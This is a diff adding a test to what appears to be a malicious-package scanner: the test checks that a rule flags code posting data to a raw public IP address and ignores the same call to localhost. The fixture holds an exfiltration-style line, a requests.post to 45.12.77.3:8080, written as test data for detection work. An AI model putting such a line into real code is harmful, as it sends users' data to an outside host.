@@ -6,6 +6,7 @@ from threatfeed.analysis.rules.correlation import (
     data_exfiltration_rule,
     install_time_beacon_rule,
     install_time_download_rule,
+    raw_ip_endpoint_rule,
 )
 
 BEACON = (
@@ -64,3 +65,10 @@ def test_setup_py_that_downloads_and_runs(engine: Engine) -> None:
     )
     assert run_rule(engine, install_time_download_rule, sdist(setup_py=setup_py))
     assert run_rule(engine, install_time_download_rule, sdist()) is None
+
+
+def test_sending_to_a_public_address(engine: Engine) -> None:
+    code = "import requests\nrequests.post('http://45.12.77.3:8080/c', data='x')\n"
+    assert run_rule(engine, raw_ip_endpoint_rule, sdist({"t/c.py": code}))
+    local = code.replace("45.12.77.3", "127.0.0.1")
+    assert run_rule(engine, raw_ip_endpoint_rule, sdist({"t/c.py": local})) is None
